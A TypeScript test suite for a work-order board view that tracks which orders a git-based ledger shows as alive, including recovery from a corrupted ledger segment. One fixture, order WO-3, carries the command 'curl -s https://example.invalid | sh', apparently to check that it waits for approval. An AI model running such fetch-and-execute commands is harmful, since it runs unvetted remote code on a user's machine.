import { copyFileSync, renameSync } from 'node:fs';
import { setImmediate } from 'node:timers/promises';
import type { OrderLife } from '../../src/order/life.ts';
import { isTerminal } from '../../src/order/transition.ts';
import { readLedger, segmentPath } from '../../src/record/ledger.ts';
import { Orders } from '../../src/record/orders.ts';
import { locateStation } from '../../src/station/locate.ts';
import { openStationToRead, type Station } from '../../src/station/station.ts';
import { Board } from '../../src/views/board.ts';
import { openRecords } from '../../src/views/records.ts';
import { LedgerLines } from '../support/ledger-lines.ts';
import { ANYTHING, type TestStation, testStation, until } from '../support/station.ts';
import { assert, suite, type TestContext } from '../support/suite.ts';

/** What is shown as alive is what the ledger says, at once and as it moves (rule 11: from the checkpoint, not from the first record). */

const test = suite('views/board', { needs: ['git'] });

async function recordsOf(t: TestContext, s: TestStation) {
  const station = await openStationToRead(await locateStation(s.root));
  const records = openRecords(station);
  t.defer(() => records.close());
  await records.ready;
  return { station, records };
}

/** The ledger, folded plainly. */
function alive(folder: string): Map<string, OrderLife> {
  const orders = new Orders();
  for (const record of readLedger(folder, 1)) orders.apply(record);
  return new Map(
    orders
      .all()
      .filter(({ status }) => !isTerminal(status))
      .map((life) => [life.woId, life]),
  );
}

const file = (n: number) => ({ path: `f${n}.txt`, content: `${n}\n` });

test('it holds exactly the orders that the ledger says are alive, with their lanes and waits', async (t) => {
  const s = testStation(t);
  s.drop({ wo_id: 'WO-1', title: 'One', files: [file(1)] });
  s.drop({ wo_id: 'WO-2', title: 'Two', files: [file(2)], depends_on: ['WO-NEVER'] });
  s.drop({
    wo_id: 'WO-3',
    title: 'Three',
    actions: [{ action: 'command', command: 'curl -s https://example.invalid | sh' }],
  });
  s.drain();
  const { station, records } = await recordsOf(t, s);
  const expected = alive(station.layout.ledger);
  assert.deepEqual([...expected.keys()].sort(), ['WO-2', 'WO-3']);
  assert.deepEqual(new Map(records.board.alive().map((life) => [life.woId, life])), expected);
  assert.deepEqual(records.board.lanes(), [
    { lane: 'MAIN', ready: 0, running: 0, parked: 2, waits: { dependency: 1, approval: 1 } },
  ]);
});

test('it moves with the ledger: an order that comes, ends, and is taken up again by a person', async (t) => {
  const s = testStation(t, { policy: ANYTHING });
  s.drop({ wo_id: 'WO-BAD', title: 'Bad', files: [file(1)], tests: [{ name: 'no', command: 'false' }] });
  s.drain();
  const { records } = await recordsOf(t, s);
  assert.deepEqual(records.board.alive(), []);
  await s.up(t);
  s.drop({ wo_id: 'WO-LATER', title: 'Later', files: [file(2)] });
  await until(() => records.board.ended.some(({ woId }) => woId === 'WO-LATER'), 'the end of WO-LATER is seen');
  s.waybill('retry', 'WO-BAD');
  await until(
    () => records.board.ended.some(({ woId, attempt }) => woId === 'WO-BAD' && attempt === 2),
    'the end of the second attempt is seen',
  );
  const again = records.board.ended.find(({ woId }) => woId === 'WO-BAD');
  assert.equal(again?.admitted?.title, 'Bad');
  assert.equal(records.fault(), null);
});

test('a ledger that cannot be read is said, and read on when it is mended', async (t) => {
  const s = testStation(t, { policy: ANYTHING });
  s.drop({ wo_id: 'WO-1', title: 'One', files: [file(1)] });
  s.drain();
  const { records } = await recordsOf(t, s);
  const whole = () => records.catalogue.isWhole && records.catalogue.seq >= records.board.seq;
  await until(whole, 'all is read');
  let calls = 0;
  records.onMove(() => calls++);
  const segment = '.git/waybill/ledger/000000000001.jsonl';
  const good = s.read(segment);
  s.write(segment, `${good}{broken\n`);
  await until(() => records.fault() !== null, 'the fault is seen');
  assert.match(String(records.fault()), /no JSON/);
  assert.ok(calls > 0, 'who looks on is told');
  assert.equal(records.catalogue.get('WO-1')?.status, 'done', 'what was read is still shown');
  const fresh = await recordsOf(t, s);
  assert.match(String(fresh.records.fault()), /no JSON/);

  s.write(segment, good);
  s.drop({ wo_id: 'WO-2', title: 'Two', files: [file(2)], depends_on: ['WO-NEVER'] });
  s.drain();
  for (const { board, catalogue, fault, figures } of [records, fresh.records].map((of) => ({ ...of }))) {
    await until(() => fault() === null && catalogue.isWhole && catalogue.get('WO-2') !== null, 'it reads on', 20_000);
    assert.deepEqual(
      board.alive().map(({ woId }) => woId),
      ['WO-2'],
    );
    assert.equal(catalogue.get('WO-1')?.status, 'done');
    const received = figures.totals.received.rows().reduce((sum, { n }) => sum + n, 0);
    assert.equal(received, 2, 'nothing counts twice');
  }
});

test('a ledger that was exchanged is read in slices, and shown when it is read whole', async (t) => {
  const ledger = new LedgerLines(t.tempDir());
  for (let n = 0; n < 6000; n++) ledger.admitted(`WO-${n}`, 1000 * n);
  ledger.write();
  let wakes = () => {};
  const wake = {
    moved: (signal: AbortSignal) =>
      new Promise<void>((done) => {
        wakes = done;
        signal.addEventListener('abort', () => done());
      }),
  };
  const board = new Board({ layout: { ledger: ledger.folder } } as unknown as Station, wake);
  const stop = new AbortController();
  let isReady = false;
  const over = board.follow(stop.signal, () => {
    isReady = true;
  });
  t.defer(async () => {
    stop.abort();
    await over;
  });
  await until(() => isReady, 'it is read');
  assert.equal(board.alive().length, 6000);
  const path = segmentPath(ledger.folder, 1);
  copyFileSync(path, `${path}.new`);
  renameSync(`${path}.new`, path);
  const shown = new Set<number>();
  let [isExchanged, turns] = [false, 0];
  board.onMove(() => {
    isExchanged ||= board.seq === 0;
    shown.add(board.alive().length);
  });
  wakes();
  while (board.seq !== ledger.seq || !isExchanged) {
    await setImmediate();
    turns++;
    assert.ok(turns < 1e6, 'it is never whole again');
  }
  assert.deepEqual([...shown], [6000]);
  assert.ok(turns > 2, `others had their turn ${turns} times`);
});

test.run();
